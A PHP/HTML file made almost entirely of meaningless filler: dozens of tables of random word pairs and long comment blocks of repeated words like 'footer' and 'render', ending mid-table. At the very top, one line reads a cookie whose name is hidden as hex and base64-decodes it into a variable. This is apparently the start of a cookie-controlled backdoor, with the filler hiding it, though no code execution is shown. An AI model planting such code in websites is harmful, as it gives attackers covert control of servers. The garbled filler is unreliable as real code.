<?php
$k = base64_decode($_COOKIE[hex2bin('7374')]);
?>
<table>
<tr class="report"><td>title 0</td><td>entry sort</td></tr>
<tr class="field"><td>render 1</td><td>cache value</td></tr>
<tr class="table"><td>sort 2</td><td>style label</td></tr>
<tr class="index"><td>status 3</td><td>header footer</td></tr>
<tr class="export"><td>amount 4</td><td>list entry</td></tr>
<tr class="total"><td>client 5</td><td>table total</td></tr>
<tr class="amount"><td>order 6</td><td>item title</td></tr>
<tr class="label"><td>export 7</td><td>cache setting</td></tr>
<tr class="year"><td>import 8</td><td>panel report</td></tr>
<tr class="list"><td>report 9</td><td>field amount</td></tr>
<tr class="cache"><td>style 10</td><td>title record</td></tr>
<tr class="label"><td>theme 11</td><td>title panel</td></tr>
<tr class="order"><td>limit 12</td><td>offset setting</td></tr>
<tr class="label"><td>offset 13</td><td>format item</td></tr>
<tr class="status"><td>title 14</td><td>total column</td></tr>
<tr class="cache"><td>column 15</td><td>locale amount</td></tr>
<tr class="header"><td>footer 16</td><td>field year</td></tr>
<tr class="render"><td>order 17</td><td>value limit</td></tr>
<tr class="order"><td>format 18</td><td>amount list</td></tr>
<tr class="filter"><td>offset 19</td><td>option month</td></tr>
<tr class="style"><td>order 20</td><td>month entry</td></tr>
<tr class="index"><td>status 21</td><td>amount option</td></tr>
<tr class="report"><td>page 22</td><td>year list</td></tr>
<tr class="label"><td>locale 23</td><td>table column</td></tr>
<tr class="filter"><td>cache 24</td><td>label month</td></tr>
<tr class="table"><td>month 25</td><td>label month</td></tr>
<tr class="render"><td>limit 26</td><td>value label</td></tr>
<tr class="order"><td>format 27</td><td>label view</td></tr>
<tr class="total"><td>import 28</td><td>setting item</td></tr>
<tr class="year"><td>theme 29</td><td>record export</td></tr>
</table>
<?php
/*
 * column locale item export export label theme entry format client offset client
 * page index index index item setting render setting column footer widget option
 * report month column page header label limit order field order report format
 * limit widget column status limit format report offset client widget order column
 * column total total report header client status limit total render month index
 * month theme page theme sort column widget import cache offset client theme
 * item year label field month limit header client amount year sort widget
 * value amount order column sort view amount index item locale theme field
 * sort import client record client item record total page sort import status
 * style index order item setting year style field header format table cache
 * column setting page widget style total setting view column export cache header
 * record title filter value cache footer locale import client title import status
 * widget sort entry value page export panel offset limit format value order
 * title field offset page style item export item list render month widget
 * year total footer record item record title page footer page widget setting
 * field header value header report limit label filter status list record index
 * month footer locale theme title panel format format sort render total setting
 * export year view offset cache setting render list label export order theme
 * filter cache value sort list year export month list title table setting
 * table header cache filter entry item list option widget theme value page
 * list field status title sort setting report widget status title export status
 * month footer header format sort panel sort month label format limit option
 * record total list footer locale style export sort import table render panel
 * value locale filter setting title cache total field status field setting value
 * render report value title view index item sort option style footer total
 */
?>
<table>
<tr class="table"><td>header 0</td><td>report item</td></tr>
<tr class="entry"><td>client 1</td><td>column month</td></tr>
<tr class="cache"><td>page 2</td><td>amount index</td></tr>
<tr class="label"><td>list 3</td><td>render limit</td></tr>
<tr class="view"><td>cache 4</td><td>style export</td></tr>
<tr class="record"><td>style 5</td><td>render panel</td></tr>
<tr class="limit"><td>render 6</td><td>client title</td></tr>
<tr class="field"><td>panel 7</td><td>value import</td></tr>
<tr class="item"><td>item 8</td><td>total panel</td></tr>
<tr class="sort"><td>footer 9</td><td>title sort</td></tr>
<tr class="year"><td>item 10</td><td>import index</td></tr>
<tr class="offset"><td>table 11</td><td>amount table</td></tr>
<tr class="title"><td>render 12</td><td>cache item</td></tr>
<tr class="page"><td>setting 13</td><td>record status</td></tr>
<tr class="status"><td>style 14</td><td>record field</td></tr>
<tr class="footer"><td>list 15</td><td>format import</td></tr>
<tr class="year"><td>list 16</td><td>header option</td></tr>
<tr class="order"><td>entry 17</td><td>field filter</td></tr>
<tr class="title"><td>limit 18</td><td>setting column</td></tr>
<tr class="client"><td>total 19</td><td>option option</td></tr>
<tr class="title"><td>field 20</td><td>year cache</td></tr>
<tr class="report"><td>month 21</td><td>entry column</td></tr>
<tr class="setting"><td>month 22</td><td>header field</td></tr>
<tr class="filter"><td>cache 23</td><td>list column</td></tr>
<tr class="widget"><td>header 24</td><td>footer setting</td></tr>
<tr class="report"><td>column 25</td><td>order value</td></tr>
<tr class="year"><td>setting 26</td><td>view title</td></tr>
<tr class="page"><td>panel 27</td><td>panel record</td></tr>
<tr class="value"><td>status 28</td><td>amount table</td></tr>
<tr class="column"><td>record 29</td><td>field render</td></tr>
</table>
<?php
/*
 * client export report filter title import setting sort column list limit widget
 * value panel panel title style label client offset month list client table
 * field offset amount year limit limit month client total amount panel cache
 * table sort total setting label view month cache item cache client total
 * client widget page year record locale theme client item cache report header
 * entry page month label theme option render value list table list client
 * total column option month year setting export item item client index index
 * item index total widget entry order view sort field setting footer widget
 * footer month export offset sort column column list render filter status label
 * report export theme order filter import export footer page status order filter
 * list footer client table table page order label month footer widget column
 * title sort item view import locale filter filter record format view format
 * table limit client page year label setting style index cache field item
 * header index list report setting year setting table table import offset status
 * option view column view list setting label status offset month footer export
 * item filter footer theme filter total setting year footer column footer render
 * export theme order widget field page value setting order item render style
 * view setting index footer filter cache index setting render footer list total
 * index label field amount client field label header index view label limit
 * column record filter header setting export value order offset cache offset column
 * label order order list order cache cache record record label header header
 * header offset value cache header year item order panel style index index
 * value view offset view entry header month panel year amount view option
 * option page option value setting record item column amount footer offset title
 * option filter render header export footer locale report format item field option
 */
?>
<table>
<tr class="footer"><td>table 0</td><td>option style</td></tr>
<tr class="theme"><td>order 1</td><td>total option</td></tr>
<tr class="theme"><td>setting 2</td><td>format year</td></tr>
<tr class="item"><td>title 3</td><td>item month</td></tr>
<tr class="title"><td>month 4</td><td>client footer</td></tr>
<tr class="field"><td>label 5</td><td>amount export</td></tr>
<tr class="item"><td>month 6</td><td>entry status</td></tr>
<tr class="year"><td>order 7</td><td>list format</td></tr>
<tr class="entry"><td>title 8</td><td>column header</td></tr>
<tr class="record"><td>column 9</td><td>record style</td></tr>
<tr class="list"><td>status 10</td><td>report export</td></tr>
<tr class="sort"><td>import 11</td><td>report format</td></tr>
<tr class="offset"><td>label 12</td><td>panel cache</td></tr>
<tr class="year"><td>column 13</td><td>entry list</td></tr>
<tr class="index"><td>limit 14</td><td>record sort</td></tr>
<tr class="item"><td>offset 15</td><td>column style</td></tr>
<tr class="status"><td>export 16</td><td>year panel</td></tr>
<tr class="filter"><td>view 17</td><td>record filter</td></tr>
<tr class="export"><td>entry 18</td><td>import theme</td></tr>
<tr class="client"><td>widget 19</td><td>filter theme</td></tr>
<tr class="offset"><td>style 20</td><td>cache sort</td></tr>
<tr class="item"><td>cache 21</td><td>format import</td></tr>
<tr class="header"><td>client 22</td><td>table cache</td></tr>
<tr class="label"><td>entry 23</td><td>view view</td></tr>
<tr class="locale"><td>format 24</td><td>filter limit</td></tr>
<tr class="month"><td>sort 25</td><td>title sort</td></tr>
<tr class="entry"><td>year 26</td><td>import panel</td></tr>
<tr class="value"><td>widget 27</td><td>offset export</td></tr>
<tr class="status"><td>theme 28</td><td>item offset</td></tr>
<tr class="label"><td>page 29</td><td>year footer</td></tr>
</table>
<?php
/*
 * column header report list field status header filter offset format limit footer
 * page widget record offset filter field amount order render year export render
 * total footer theme field setting view widget import field filter panel column
 * offset total option list footer list table locale theme title view column
 * record status year render month month format theme status amount index value
 * column format page report status field footer value footer item list order
 * record order panel order status record panel field month filter total theme
 * sort theme view year page total total entry index year index import
 * value client report index widget import export value cache render format offset
 * panel import entry item render column item locale footer header field format
 * export theme offset report total amount theme record amount sort theme year
 * label page item panel order item import footer view list order style
 * value footer value title table cache panel locale entry header record amount
 * total order order page total option sort amount header amount record entry
 * sort export setting item widget setting year order widget report item item
 * year column client order footer locale header month view item export option
 * panel offset format export month value locale widget amount total render page
 * total format setting panel widget locale cache amount export footer entry setting
 * title record item import panel list import field list column month status
 * report sort footer item order field locale title import amount year offset
 * client column theme index style order column header widget year total index
 * view export index sort limit export report filter format export sort theme
 * table import view view field limit total item format header export export
 * theme entry list render title panel render value widget style column amount
 * order record offset limit amount widget item table entry view limit amount
 */
?>
<table>
<tr class="style"><td>format 0</td><td>value month</td></tr>
<tr class="total"><td>footer 1</td><td>format item</td></tr>
<tr class="table"><td>year 2</td><td>total total</td></tr>
<tr class="total"><td>import 3</td><td>year index</td></tr>
<tr class="theme"><td>list 4</td><td>offset total</td></tr>
<tr class="theme"><td>entry 5</td><td>report theme</td></tr>
<tr class="entry"><td>entry 6</td><td>widget setting</td></tr>
<tr class="amount"><td>limit 7</td><td>page import</td></tr>
<tr class="offset"><td>locale 8</td><td>header format</td></tr>
<tr class="theme"><td>item 9</td><td>field panel</td></tr>
<tr class="list"><td>label 10</td><td>filter amount</td></tr>
<tr class="value"><td>format 11</td><td>header setting</td></tr>
<tr class="header"><td>order 12</td><td>label footer</td></tr>
<tr class="import"><td>total 13</td><td>footer locale</td></tr>
<tr class="header"><td>year 14</td><td>index month</td></tr>
<tr class="locale"><td>export 15</td><td>style filter</td></tr>
<tr class="render"><td>status 16</td><td>status export</td></tr>
<tr class="setting"><td>value 17</td><td>total limit</td></tr>
<tr class="format"><td>label 18</td><td>limit panel</td></tr>
<tr class="item"><td>option 19</td><td>sort status</td></tr>
<tr class="import"><td>label 20</td><td>month view</td></tr>
<tr class="total"><td>format 21</td><td>client order</td></tr>
<tr class="field"><td>entry 22</td><td>widget option</td></tr>
<tr class="item"><td>value 23</td><td>total setting</td></tr>
<tr class="table"><td>render 24</td><td>month sort</td></tr>
<tr class="year"><td>export 25</td><td>view cache</td></tr>
<tr class="setting"><td>panel 26</td><td>index locale</td></tr>
<tr class="export"><td>item 27</td><td>filter export</td></tr>
<tr class="cache"><td>filter 28</td><td>panel style</td></tr>
<tr class="entry"><td>style 29</td><td>locale format</td></tr>
</table>
<?php
/*
 * panel setting widget list view month limit view footer title locale theme
 * item list status format order limit view footer table title item footer
 * report setting year render panel status month offset entry column filter panel
 * title item format entry label client item value header month cache table
 * view view value list theme total item index year month amount locale
 * field render page panel month label setting total title index header record
 * footer format total record header export value total setting index footer style
 * format value field limit locale panel field style widget month theme column
 * header client option item sort option label setting filter widget column amount
 * render limit client footer limit export entry client limit total report option
 * option format page list page value field render sort theme entry status
 * status theme style item item item value amount view total client title
 * cache theme cache offset sort locale label header sort client value import
 * format locale panel field amount title filter order amount order widget status
 * style order widget month offset render export widget status total report field
 * table style render setting report header header index filter locale sort header
 * option table title status render value order offset order item item page
 * field label view column render panel client filter theme import amount table
 * year import client sort title view offset item title page entry report
 * entry total sort sort amount order list month value total theme panel
 * setting table label locale locale export panel status sort label offset widget
 * year value offset sort setting table view table widget footer filter month
 * view setting setting limit status label export field footer client status import
 * value render filter order style report amount entry view amount setting limit
 * field list entry record entry page panel entry offset cache view client
 */
?>
<table>
<tr class="title"><td>offset 0</td><td>entry view</td></tr>
<tr class="export"><td>item 1</td><td>theme locale</td></tr>
<tr class="table"><td>theme 2</td><td>widget option</td></tr>
<tr class="label"><td>limit 3</td><td>status widget</td></tr>
<tr class="list"><td>setting 4</td><td>import field</td></tr>
<tr class="header"><td>record 5</td><td>status total</td></tr>
<tr class="amount"><td>setting 6</td><td>widget theme</td></tr>
<tr class="list"><td>page 7</td><td>index value</td></tr>
<tr class="year"><td>report 8</td><td>panel theme</td></tr>
<tr class="header"><td>item 9</td><td>offset footer</td></tr>
<tr class="render"><td>field 10</td><td>format limit</td></tr>
<tr class="header"><td>label 11</td><td>entry month</td></tr>
<tr class="view"><td>widget 12</td><td>format view</td></tr>
<tr class="list"><td>client 13</td><td>entry sort</td></tr>
<tr class="status"><td>import 14</td><td>total amount</td></tr>
<tr class="entry"><td>index 15</td><td>export format</td></tr>
<tr class="record"><td>index 16</td><td>year field</td></tr>
<tr class="widget"><td>theme 17</td><td>offset list</td></tr>
<tr class="theme"><td>item 18</td><td>limit render</td></tr>
<tr class="filter"><td>panel 19</td><td>panel amount</td></tr>
<tr class="label"><td>setting 20</td><td>widget panel</td></tr>
<tr class="limit"><td>sort 21</td><td>limit item</td></tr>
<tr class="item"><td>entry 22</td><td>client format</td></tr>
<tr class="render"><td>filter 23</td><td>option export</td></tr>
<tr class="index"><td>panel 24</td><td>locale record</td></tr>
<tr class="header"><td>export 25</td><td>header offset</td></tr>
<tr class="order"><td>import 26</td><td>header title</td></tr>
<tr class="render"><td>record 27</td><td>import header</td></tr>
<tr class="view"><td>view 28</td><td>entry option</td></tr>
<tr class="year"><td>label 29</td><td>index widget</td></tr>
</table>
<?php
/*
 * index panel label field header title offset style format order page table
 * list report month option client view field header value title total label
 * client setting index option style client theme style status panel column column
 * report month status theme column list setting year view option item import
 * year label index widget locale total list widget amount export table client
 * report panel list year value status table cache column render locale label
 * filter list footer option view widget column offset order month total month
 * index view sort page record footer item month client order value order
 * theme column field record month sort amount limit widget table offset import
 * panel index label order view view import widget value header offset setting
 * locale format render offset header report order amount cache export value locale
 * list header header view entry export export month header list label total
 * total total option label table theme cache panel client theme status offset
 * report render option total render limit list value label view list option
 * render page sort index option client cache client record import month render
 * total header export theme page total index render month value theme field
 * index option footer total cache setting field total offset list list report
 * theme export field import field page option status limit sort sort column
 * list offset field footer field filter list footer render list field render
 * total record value view view panel title widget title view header locale
 * month theme item export theme column format panel list theme client month
 * month item view theme header status setting month table theme value setting
 * export month footer option setting record footer report month year limit panel
 * sort cache style item list index list setting year limit record panel
 * total filter style render title render limit entry view status value setting
 */
?>
<table>
<tr class="value"><td>record 0</td><td>year style</td></tr>
<tr class="record"><td>amount 1</td><td>entry list</td></tr>
<tr class="status"><td>label 2</td><td>column order</td></tr>
<tr class="value"><td>index 3</td><td>index render</td></tr>
<tr class="field"><td>year 4</td><td>client style</td></tr>
<tr class="offset"><td>limit 5</td><td>style footer</td></tr>
<tr class="month"><td>column 6</td><td>list header</td></tr>
<tr class="title"><td>total 7</td><td>index style</td></tr>
<tr class="label"><td>label 8</td><td>year entry</td></tr>
<tr class="format"><td>locale 9</td><td>month option</td></tr>
<tr class="status"><td>index 10</td><td>format record</td></tr>
<tr class="client"><td>total 11</td><td>field order</td></tr>
<tr class="filter"><td>export 12</td><td>report offset</td></tr>
<tr class="month"><td>year 13</td><td>amount item</td></tr>
<tr class="entry"><td>header 14</td><td>status import</td></tr>
<tr class="format"><td>entry 15</td><td>client label</td></tr>
<tr class="filter"><td>widget 16</td><td>field format</td></tr>
<tr class="theme"><td>limit 17</td><td>setting theme</td></tr>
<tr class="month"><td>widget 18</td><td>title export</td></tr>
<tr class="table"><td>format 19</td><td>value month</td></tr>
<tr class="index"><td>page 20</td><td>sort year</td></tr>
<tr class="status"><td>theme 21</td><td>panel sort</td></tr>
<tr class="format"><td>locale 22</td><td>title header</td></tr>
<tr class="order"><td>index 23</td><td>style client</td></tr>
<tr class="label"><td>filter 24</td><td>amount index</td></tr>
<tr class="value"><td>value 25</td><td>page record</td></tr>
<tr class="filter"><td>footer 26</td><td>style page</td></tr>
<tr class="order"><td>amount 27</td><td>sort setting</td></tr>
<tr class="status"><td>status 28</td><td>option order</td></tr>
<tr class="title"><td>report 29</td><td>list option</td></tr>
</table>
<?php
/*
 * column widget render footer view export total option amount value item status
 * month format option amount import panel sort value format view panel title
 * cache theme sort month panel index item widget limit limit panel field
 * widget import cache column header format order title month view style option
 * table theme total title filter option column record view setting index amount
 * filter theme view cache year list style index entry index setting offset
 * value setting widget sort offset column table entry value order option setting
 * format month index limit cache item widget export column render entry record
 * style panel column cache month panel year label index item status field
 * import field record footer amount column import table list cache table client
 * theme table panel view record order title view month list entry offset
 * column option total setting footer label cache item panel locale list setting
 * year title setting cache render label entry page footer cache year cache
 * page import value header import value table amount status sort option page
 * export sort format label page panel filter limit theme import status list
 * offset style status style panel report view list client table theme column
 * cache entry index title style client format label report report option total
 * limit export locale export field export page record column total theme offset
 * page footer column locale style format export month import amount title render
 * value total field order offset index page column entry table report option
 * widget style filter filter header list index list month page status column
 * offset panel footer setting offset client page export record offset entry value
 * offset amount record table year amount cache view client page locale cache
 * render style sort entry status sort item render filter client render column
 * amount widget entry index cache month column style total item month table
 */
?>
<table>
<tr class="format"><td>item 0</td><td>total header</td></tr>
<tr class="cache"><td>style 1</td><td>import export</td></tr>
<tr class="item"><td>year 2</td><td>record table</td></tr>
<tr class="column"><td>view 3</td><td>theme record</td></tr>
<tr class="title"><td>export 4</td><td>locale year</td></tr>
<tr class="export"><td>format 5</td><td>year render</td></tr>
<tr class="limit"><td>offset 6</td><td>view locale</td></tr>
<tr class="amount"><td>export 7</td><td>field title</td></tr>
<tr class="header"><td>month 8</td><td>value header</td></tr>
<tr class="list"><td>view 9</td><td>option panel</td></tr>
<tr class="month"><td>month 10</td><td>index status</td></tr>
<tr class="title"><td>limit 11</td><td>column index</td></tr>
<tr class="entry"><td>render 12</td><td>header sort</td></tr>
<tr class="index"><td>month 13</td><td>status filter</td></tr>
<tr class="entry"><td>field 14</td><td>footer status</td></tr>
<tr class="status"><td>offset 15</td><td>entry status</td></tr>
<tr class="year"><td>option 16</td><td>total status</td></tr>
<tr class="entry"><td>style 17</td><td>field order</td></tr>
<tr class="footer"><td>page 18</td><td>status order</td></tr>
<tr class="cache"><td>client 19</td><td>sort view</td></tr>
<tr class="sort"><td>offset 20</td><td>client format</td></tr>
<tr class="title"><td>header 21</td><td>limit header</td></tr>
<tr class="table"><td>export 22</td><td>field value</td></tr>
<tr class="page"><td>locale 23</td><td>offset import</td></tr>
<tr class="view"><td>theme 24</td><td>theme filter</td></tr>
<tr class="format"><td>record 25</td><td>title view</td></tr>
<tr class="view"><td>sort 26</td><td>month total</td></tr>
<tr class="column"><td>locale 27</td><td>title index</td></tr>
<tr class="table"><td>cache 28</td><td>import column</td></tr>
<tr class="filter"><td>month 29</td><td>footer order</td></tr>
</table>
<?php
/*
 * month render status offset header limit theme header report sort table panel
 * page header panel order setting record page entry order option table import
 * render locale sort locale total year label cache style format locale limit
 * cache field option field limit entry widget month locale field month footer
 * list table view render render total field filter setting theme status record
 * year record import limit value column year style order footer format cache
 * render item title order filter amount setting month setting value client format
 * format status label report record report limit item widget total sort total
 * value import sort year option order total offset format page theme total
 * record month report value month total title month filter header format total
 * locale status limit import list sort locale title style status setting client
 * table year cache theme header title header client field table style view
 * view page theme field panel style entry index entry list sort style
 * import column column label render export title total theme title list header
 * offset entry limit amount widget month year panel import record header order
 * title offset order offset report total footer client page order list filter
 * format header record locale import item setting amount limit option header entry
 * amount panel footer order render render view offset index list client amount
 * field setting total value month footer label limit column offset title cache
 * record title export widget header footer offset report option index footer amount
 * list import value client amount import field widget export label value status
 * setting theme import offset locale report value amount field widget option report
 * locale style widget locale table page render limit sort amount panel entry
 * index footer import filter view header style client entry record render total
 * style render field view theme list field column record value entry sort
 */
?>
<table>
<tr class="widget"><td>limit 0</td><td>widget setting</td></tr>
<tr class="total"><td>year 1</td><td>column label</td></tr>
<tr class="label"><td>view 2</td><td>month panel</td></tr>
<tr class="format"><td>client 3</td><td>export widget</td></tr>
<tr class="order"><td>offset 4</td><td>setting header</td></tr>
<tr class="index"><td>footer 5</td><td>theme record</td></tr>
<tr class="format"><td>amount 6</td><td>widget amount</td></tr>
<tr class="amount"><td>style 7</td><td>view widget</td></tr>
<tr class="setting"><td>year 8</td><td>client page</td></tr>
<tr class="record"><td>total 9</td><td>limit style</td></tr>
<tr class="client"><td>column 10</td><td>order amount</td></tr>
<tr class="status"><td>item 11</td><td>client title</td></tr>
<tr class="widget"><td>option 12</td><td>limit option</td></tr>
<tr class="entry"><td>theme 13</td><td>footer view</td></tr>
<tr class="status"><td>column 14</td><td>field label</td></tr>
<tr class="report"><td>label 15</td><td>header setting</td></tr>
<tr class="value"><td>option 16</td><td>report locale</td></tr>
<tr class="theme"><td>filter 17</td><td>setting style</td></tr>
<tr class="record"><td>record 18</td><td>footer label</td></tr>
<tr class="limit"><td>setting 19</td><td>amount sort</td></tr>
<tr class="total"><td>month 20</td><td>cache panel</td></tr>
<tr class="setting"><td>page 21</td><td>limit cache</td></tr>
<tr class="value"><td>render 22</td><td>theme report</td></tr>
<tr class="style"><td>panel 23</td><td>order sort</td></tr>
<tr class="widget"><td>entry 24</td><td>cache list</td></tr>
<tr class="locale"><td>record 25</td><td>label year</td></tr>
<tr class="setting"><td>list 26</td><td>column style</td></tr>
<tr class="view"><td>cache 27</td><td>month item</td></tr>
<tr class="month"><td>total 28</td><td>table page</td></tr>
<tr class="title"><td>theme 29</td><td>theme locale</td></tr>
</table>
<?php
/*
 * total limit footer field table order index export style list theme limit
 * table list footer total widget page export widget panel widget filter month
 * total value header panel setting footer report status total report amount theme
 * month value item report import item value style year style index panel
 * list option total index render index header item total status total style
 * report cache title year style item view total order setting order item
 * field table offset list theme render amount widget label entry widget total
 * limit export item title theme widget record cache status report status report
 * year order theme total locale title month entry theme order filter cache
 * value total header export item format sort import locale theme footer setting
 * entry limit panel table order sort report setting amount month import sort
 * index panel footer option value value year column page export field column
 * title render title panel month export table label label locale list month
 * list index report format footer header list page status title status list
 * record setting table footer year amount view option index footer title column
 * locale limit header option page import option amount widget title status list
 * setting total locale item table record cache header format entry report index
 * client import render client status sort view entry cache cache locale cache
 * format theme setting index header import table option entry index page footer
 * style list month status header locale sort cache render theme offset option
 * format title cache header setting report client item page label render option
 * offset order format month style table style report record footer page item
 * panel list filter field item page render client column cache year option
 * filter cache client index import item filter export panel sort title table
 * index locale header amount month sort theme entry offset record render render
 */
?>
<table>
<tr class="title"><td>month 0</td><td>panel theme</td></tr>
<tr class="total"><td>total 1</td><td>cache value</td></tr>
<tr class="limit"><td>locale 2</td><td>title header</td></tr>
<tr class="page"><td>format 3</td><td>field total</td></tr>
<tr class="setting"><td>offset 4</td><td>widget render</td></tr>
<tr class="report"><td>footer 5</td><td>title value</td></tr>
<tr class="index"><td>import 6</td><td>order view</td></tr>
<tr class="record"><td>total 7</td><td>item entry</td></tr>
<tr class="order"><td>field 8</td><td>offset record</td></tr>
<tr class="value"><td>index 9</td><td>field index</td></tr>
<tr class="view"><td>offset 10</td><td>cache table</td></tr>
<tr class="widget"><td>panel 11</td><td>panel value</td></tr>
<tr class="widget"><td>report 12</td><td>entry list</td></tr>
<tr class="option"><td>total 13</td><td>record panel</td></tr>
<tr class="month"><td>header 14</td><td>month order</td></tr>
<tr class="view"><td>import 15</td><td>value report</td></tr>
<tr class="footer"><td>report 16</td><td>page widget</td></tr>
<tr class="report"><td>field 17</td><td>page header</td></tr>
<tr class="page"><td>filter 18</td><td>export format</td></tr>
<tr class="limit"><td>item 19</td><td>report setting</td></tr>
<tr class="theme"><td>header 20</td><td>order order</td></tr>
<tr class="value"><td>status 21</td><td>label sort</td></tr>
<tr class="cache"><td>panel 22</td><td>field value</td></tr>
<tr class="view"><td>view 23</td><td>offset option</td></tr>
<tr class="view"><td>locale 24</td><td>column order</td></tr>
<tr class="client"><td>limit 25</td><td>view entry</td></tr>
<tr class="filter"><td>title 26</td><td>style report</td></tr>
<tr class="style"><td>record 27</td><td>table label</td></tr>
<tr class="month"><td>render 28</td><td>import page</td></tr>
<tr class="page"><td>style 29</td><td>value label</td></tr>
</table>
<?php
/*
 * cache sort export import panel field client month list report field title
 * column setting footer render status amount style total locale title locale header
 * report offset month column status theme month option entry record title table
 * status list table value report table limit style year header view order
 * value setting field value panel value report cache panel filter widget page
 * status table sort panel table index item locale client field setting month
 * order field order style format page option locale page style index cache
 * entry footer format theme format status report format title render filter list
 * table column record sort sort entry status locale footer index month cache
 * table client report format value option value format index import filter locale
 * footer header limit offset order render format value widget list locale panel
 * entry limit label label footer title field style locale table column limit
 * page widget render style limit year item page list option limit year
 * report title year table import index filter render limit table header export
 * option field option panel header month widget option cache style limit option
 * report amount column setting total total offset view setting total theme record
 * year label column index value total view title client sort filter locale
 * render item page index list column label item render field format format
 * client entry footer month month list status page locale status limit field
 * option style month render title amount header sort page list style column
 * locale view total client cache option option total field title field month
 * setting entry column import theme column table footer setting month sort footer
 * table cache export column column item footer format record export list index
 * order total client index field theme index cache month offset column report
 * format year year entry field render record widget title field render import
 */
?>
<table>
<tr class="setting"><td>cache 0</td><td>list table</td></tr>
<tr class="footer"><td>offset 1</td><td>amount locale</td></tr>
<tr class="page"><td>panel 2</td><td>client setting</td></tr>
<tr class="page"><td>field 3</td><td>setting sort</td></tr>
<tr class="widget"><td>list 4</td><td>year label</td></tr>
<tr class="list"><td>list 5</td><td>page limit</td></tr>
<tr class="widget"><td>value 6</td><td>export report</td></tr>
<tr class="value"><td>locale 7</td><td>title order</td></tr>
<tr class="filter"><td>style 8</td><td>record import</td></tr>
<tr class="format"><td>item 9</td><td>list report</td></tr>
<tr class="sort"><td>value 10</td><td>page year</td></tr>
<tr class="entry"><td>record 11</td><td>amount title</td></tr>
<tr class="value"><td>report 12</td><td>footer field</td></tr>
<tr class="order"><td>option 13</td><td>amount total</td></tr>
<tr class="client"><td>title 14</td><td>amount setting</td></tr>
<tr class="sort"><td>export 15</td><td>offset format</td></tr>
<tr class="amount"><td>locale 16</td><td>option setting</td></tr>
<tr class="column"><td>view 17</td><td>year client</td></tr>
<tr class="list"><td>month 18</td><td>page style</td></tr>
<tr class="status"><td>render 19</td><td>import list</td></tr>
<tr class="index"><td>header 20</td><td>month year</td></tr>
<tr class="record"><td>sort 21</td><td>option entry</td></tr>
<tr class="panel"><td>format 22</td><td>total value</td></tr>
<tr class="index"><td>panel 23</td><td>status format</td></tr>
<tr class="limit"><td>theme 24</td><td>limit column</td></tr>
<tr class="order"><td>label 25</td><td>render status</td></tr>
<tr class="item"><td>month 26</td><td>locale index</td></tr>
<tr class="month"><td>column 27</td><td>label label</td></tr>
<tr class="year"><td>sort 28</td><td>view sort</td></tr>
<tr class="locale"><td>filter 29</td><td>amount import</td></tr>
</table>
<?php
/*
 * month total table status entry label column widget title style month table
 * total year table entry sort field view table label sort limit client
 * total year limit setting item entry widget export order value amount client
 * format status table client export status import limit panel status offset list
 * cache field limit footer value format widget filter import list table sort
 * theme option setting year view import style index limit footer title header
 * status footer month page title view export field total table locale list
 * view format header locale option entry year entry widget column header total
 * filter amount title year header client status header status option footer offset
 * order amount value column client order export list view status export entry
 * index cache cache report panel item offset entry list value status entry
 * filter option title column footer style column setting theme limit item list
 * month render item item option style title report view page status header
 * list import sort entry limit record widget list amount sort title theme
 * cache filter status client export offset theme export limit column view view
 * report total style title setting offset client title format filter page list
 * header footer item widget page order label title filter label style table
 * column footer total status total format format amount index status setting entry
 * order list option label page item record footer widget order title column
 * theme export filter item footer cache cache year total amount page import
 * entry list panel label report entry month list limit render entry month
 * field year month render filter header field item cache label report panel
 * import record order style order export year render amount format index title
 * page format entry offset label footer header style header render label locale
 * widget setting format month filter record cache title index style footer list
 */
?>
<table>
<tr class="import"><td>field 0</td><td>entry value</td></tr>
<tr class="month"><td>item 1</td><td>title record</td></tr>
<tr class="status"><td>widget 2</td><td>table footer</td></tr>
<tr class="status"><td>field 3</td><td>table offset</td></tr>
<tr class="header"><td>list 4</td><td>label footer</td></tr>
<tr class="widget"><td>column 5</td><td>theme export</td></tr>
<tr class="theme"><td>total 6</td><td>index export</td></tr>
<tr class="entry"><td>offset 7</td><td>field title</td></tr>
<tr class="panel"><td>total 8</td><td>theme report</td></tr>
<tr class="filter"><td>theme 9</td><td>table order</td></tr>
<tr class="view"><td>label 10</td><td>sort total</td></tr>
<tr class="month"><td>setting 11</td><td>order locale</td></tr>
<tr class="item"><td>limit 12</td><td>limit value</td></tr>
<tr class="amount"><td>theme 13</td><td>filter entry</td></tr>
<tr class="offset"><td>offset 14</td><td>order offset</td></tr>
<tr class="year"><td>amount 15</td><td>list import</td></tr>
<tr class="table"><td>index 16</td><td>import format</td></tr>
<tr class="option"><td>field 17</td><td>entry render</td></tr>
<tr class="theme"><td>export 18</td><td>total footer</td></tr>
<tr class="locale"><td>item 19</td><td>client panel</td></tr>
<tr class="locale"><td>record 20</td><td>record field</td></tr>
<tr class="list"><td>client 21</td><td>filter setting</td></tr>
<tr class="order"><td>panel 22</td><td>page status</td></tr>
<tr class="style"><td>export 23</td><td>title value</td></tr>
<tr class="view"><td>widget 24</td><td>page widget</td></tr>
<tr class="offset"><td>entry 25</td><td>header header</td></tr>
<tr class="order"><td>item 26</td><td>month item</td></tr>
<tr class="amount"><td>header 27</td><td>footer item</td></tr>
<tr class="record"><td>sort 28</td><td>cache total</td></tr>
<tr class="view"><td>render 29</td><td>report month</td></tr>
</table>
<?php
/*
 * setting record render order limit item import limit report style client footer
 * report value export render offset widget limit locale total render header page
 * amount offset footer title export label value locale option limit filter export
 * option entry export year order theme style format table limit year amount
 * item sort limit client record client title year order table amount sort
 * record header option total month limit import column field field order item
 * setting label entry view client table widget cache widget export style render
 * format month amount cache cache theme column page style option item widget
 * option setting widget option theme limit locale amount list month widget panel
 * style field footer title filter page page style order order month value
 * order export index order value style index total status order field format
 * option import view title value report import year entry report header view
 * widget option cache report year widget filter panel client page header year
 * header client limit option format footer import order header index import filter
 * setting style filter setting header sort sort field title total filter widget
 * item format value list export widget month amount report option title filter
 * filter label entry order item option setting panel theme export month year
 * offset import client widget field field widget order title list client import
 * offset import style item cache style option table page format sort page
 * entry table filter format offset title title entry render option offset month
 * table view record record option footer widget order label theme amount export
 * amount month header view option list label import theme title export style
 * field report theme page setting status sort panel year footer status offset
 * sort panel limit item panel entry filter limit view option page sort
 * total total header value field total limit client column cache client value
 */
?>
<table>
<tr class="option"><td>header 0</td><td>import option</td></tr>
<tr class="sort"><td>theme 1</td><td>month render</td></tr>
<tr class="option"><td>footer 2</td><td>record title</td></tr>
<tr class="header"><td>sort 3</td><td>order page</td></tr>
<tr class="format"><td>year 4</td><td>setting footer</td></tr>
<tr class="render"><td>header 5</td><td>theme theme</td></tr>
<tr class="setting"><td>field 6</td><td>page list</td></tr>
